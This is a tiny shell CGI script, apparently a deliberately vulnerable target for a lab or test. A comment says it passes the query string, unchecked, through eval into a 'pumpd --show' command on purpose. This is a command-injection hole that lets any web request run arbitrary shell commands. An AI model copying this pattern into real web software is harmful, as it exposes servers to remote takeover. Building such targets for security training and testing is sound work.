#!/bin/sh
echo "Content-Type: text/html"
echo
echo "<pre>"
# The query string reaches the shell unchecked: planted on purpose.
eval "/usr/bin/pumpd --show $QUERY_STRING"
echo "</pre>"
